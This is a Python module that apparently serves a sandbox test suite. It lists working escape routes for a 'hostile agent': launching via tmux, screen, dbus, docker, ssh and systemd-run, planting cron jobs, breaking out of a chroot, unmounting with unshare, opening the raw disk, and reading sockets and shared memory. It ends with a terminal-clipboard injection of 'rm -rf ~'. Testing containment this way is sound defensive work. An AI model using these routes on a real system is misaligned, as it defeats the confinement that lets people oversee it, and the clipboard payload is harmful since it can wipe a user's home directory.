"""Ways of the hostile agent through programs that start others outside, through the kernel, and through what programs
share on purpose."""

import base64
import ctypes
import os
import socket
import struct
import subprocess
import time

import kernel
from attack_tools import FACTS, FILES, MARKS, OUT, PATIENCE_S, PIDS, payload, read, run, tell, wait_for_file, way, write_to


# Programs that start others outside.

@way
def tmux():
    environment = {name: value for name, value in os.environ.items() if name not in ("TMUX", "TMUX_TMPDIR")}
    run("tmux", "-L", FACTS["tmux"], "run-shell", payload("tmux"), env=environment)


@way
def screen():
    run("screen", "-S", FACTS["screen"], "-X", "screen", "sh", "-c", payload("screen"))
    wait_for_file(os.path.join(OUT, "screen"))


def call_bus(name):
    bus = FACTS[name]
    run("dbus-send", "--bus=" + bus["address"], "--dest=" + bus["name"], "/", bus["name"] + ".Go")
    wait_for_file(os.path.join(OUT, name))


@way
def dbus():
    call_bus("dbus")


@way
def dbus_abstract():
    call_bus("dbus_abstract")


@way
def at():
    """Nothing runs it before the test removes it."""
    run("sh", "-c", f"echo ': {MARKS['at']}' | at now + 1 year")


@way
def cron():
    """Nothing runs it before the test removes it. The lock is for other tests, which change the same table."""
    run("flock", "/tmp", "sh", "-c", f"{{ crontab -l; echo '@yearly : {MARKS['cron']}'; }} 2>/dev/null | crontab -")


@way
def cron_folder():
    write_to("/etc/cron.d/hostile-" + MARKS["cron_folder"], f"@yearly root : {MARKS['cron_folder']}\n")


@way
def systemd_run():
    run("systemd-run", "--user", "--wait", "sh", "-c", payload("systemd_run"))


@way
def docker():
    home = FACTS["home"]
    run("docker", "run", "--rm", "-v", f"{home}:{home}", "-v", f"{OUT}:{OUT}", "busybox", "sh", "-c", payload("docker"))


@way
def docker_socket():
    tell("docker_socket", ask_service(socket.AF_UNIX, FACTS["docker_socket"]))


@way
def ssh_localhost():
    run(*FACTS["ssh"], payload("ssh_localhost"))


@way
def setuid():
    tell("setuid", subprocess.check_output([FACTS["setuid_cat"], FACTS["root_file"]], text=True))


# The kernel.

@way
def new_namespaces():
    script = f"umount -l {FACTS['home']}; {payload('new_namespaces')}"
    run("unshare", "-Urm", "sh", "-c", script)


@way
def old_proc():
    look = f"grep -az HOSTILE_old_proc /proc/{PIDS['victim']}/environ | tr -d '\\0' | cut -d= -f2 > {OUT}/old_proc"
    script = f"while ! {{ {look}; [ -s {OUT}/old_proc ]; }}; do umount -l /proc || exit; done"
    run("unshare", "-m", "sh", "-c", script)


@way
def io_uring():
    tell("io_uring", kernel.read_with_io_uring(FILES["io_uring"]))


@way
def open_by_handle():
    kind, raw = FACTS["handle"]
    mount = os.open(OUT, os.O_RDONLY)
    tell("open_by_handle", os.pread(kernel.open_by_handle(mount, kind, bytes.fromhex(raw)), 64, 0).decode())


@way
def chroot():
    inner = os.path.join(OUT, "inner")
    os.makedirs(inner, exist_ok=True)
    os.chdir(OUT)
    os.chroot(inner)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    tell("chroot", read(FILES["chroot"]))


@way
def raw_disk():
    tell("raw_disk", kernel.disk_identity(FACTS["disk_device"]))


@way
def mknod():
    device = os.path.join(OUT, "disk")
    os.mknod(device, 0o600 | 0o060000, os.makedev(*FACTS["disk"]))
    tell("mknod", kernel.disk_identity(device))


@way
def fanotify():
    group = kernel.syscall("fanotify_init", 0, os.O_RDONLY)
    # The home is on the same file system as the project, which need not be the one of the root directory.
    for place in (b"/", OUT.encode()):
        kernel.syscall("fanotify_mark", group, 0x11, 0x20, -100, place)
    deadline = time.monotonic() + PATIENCE_S / 2
    while time.monotonic() < deadline:
        events = os.read(group, 4096)
        while events:
            length, = struct.unpack_from("I", events)
            descriptor, = struct.unpack_from("i", events, 16)
            if descriptor >= 0:
                if os.readlink(f"/proc/self/fd/{descriptor}") == FILES["fanotify"]:
                    return tell("fanotify", os.pread(descriptor, 64, 0).decode())
                os.close(descriptor)
            events = events[length:]


@way
def mount():
    place = os.path.join(FACTS["world"], "mounted")
    run("mount", "-t", "tmpfs", "hostile", place)
    write_to(os.path.join(place, MARKS["mount"]), "")


@way
def keyring():
    buffer = ctypes.create_string_buffer(64)
    length = kernel.syscall("keyctl", 11, FACTS["key"], buffer, 64)
    tell("keyring", buffer.raw[:length].decode())


# Sockets and memory that programs share on purpose.

def ask_service(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(PATIENCE_S)
        connection.connect(address)
        return connection.recv(64).decode()


@way
def abstract_socket():
    tell("abstract_socket", ask_service(socket.AF_UNIX, "\0" + FACTS["listen"]["abstract_socket"]))


@way
def path_socket():
    tell("path_socket", ask_service(socket.AF_UNIX, FACTS["listen"]["path_socket"]))


@way
def tcp_loopback():
    tell("tcp_loopback", ask_service(socket.AF_INET, ("127.0.0.1", FACTS["ports"]["tcp_loopback"])))


@way
def sysv_memory():
    kernel.libc.shmat.restype = ctypes.c_void_p
    address = kernel.libc.shmat(FACTS["segment"], None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError("no such segment")
    tell("sysv_memory", ctypes.string_at(address, 32).decode())


@way
def posix_memory():
    tell("posix_memory", read(FILES["posix_memory"]))


@way
def terminal_clipboard():
    clipboard = base64.b64encode(b"rm -rf ~").decode()
    terminal = os.open(FILES["terminal_clipboard"], os.O_WRONLY | os.O_NOCTTY)
    os.write(terminal, f"\x1b]52;c;{clipboard}\x07{MARKS['terminal_clipboard']}".encode())
